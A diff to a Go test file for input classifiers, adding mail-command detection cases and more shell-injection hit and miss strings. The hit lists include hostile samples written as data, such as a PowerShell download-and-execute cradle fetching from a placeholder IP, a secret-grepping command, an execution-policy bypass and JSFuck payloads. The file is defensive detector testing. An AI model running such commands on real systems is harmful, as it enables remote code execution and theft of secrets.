@@ -45,6 +45,12 @@ func TestClassRules(t *testing.T) {
 			miss: []string{"from the group by the lake", "from home where possible", "from Paris where we met", "from now on", "from x order"},
 		},
 		{
+			name: "mail command value",
+			fn:   isMailCommandValue,
+			hits: []string{"MAIL FROM:<x@example.net>", "rcpt to: y@example.net", "A7 LOGIN bob secret", "c12 SELECT INBOX"},
+			miss: []string{"mail from: see below", "Q3 status report", "B2 select a seat", "USER admin", "TOP 10 songs"},
+		},
+		{
 			name: "JSFuck",
 			fn:   hasJSFuck,
 			hits: []string{"(![]+[])[+[]]+(![]+[])[!+[]+!+[]]", "[][(![]+[])[+!+[]]]()"},
@@ -89,6 +95,8 @@ func TestShellClassRules(t *testing.T) {
 		"; eval id",
 		"Get-ChildItem -Path C:\\Users", "; Set-ExecutionPolicy -Scope CurrentUser Bypass", "|Get-LocalUser",
 		"& Start-Service -Name spooler", ";vi x -c ':!uname -a'", "x \\!whoami", "; lynx -dump http://203.0.113.9", "| egrep -r secret /srv",
+		"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "$w = New-Object Net.WebClient",
+		"Get-ChildItem", "; winget install x", "| git clone https://example.net/r", "; jq . /etc/hosts",
 	}
 	for _, v := range hits {
 		if !hasShellInjection(v) {
@@ -104,6 +112,7 @@ func TestShellClassRules(t *testing.T) {
 		"ps: see you", "time to go", "a \\n b", "eval is a word", "set the table", "set X=1 and Y=2",
 		"Get-together at noon", "set-up; add-on", "Write-off -5%", "Start-up & grow", "which one", "history of Rome",
 		"Note:!important", "wow\\!cool", ":!",
+		"$total = sum of items", "Get-WmiObject is a cmdlet name", "new-object oriented (design)",
 	}
 	for _, v := range miss {
 		if hasShellInjection(v) {
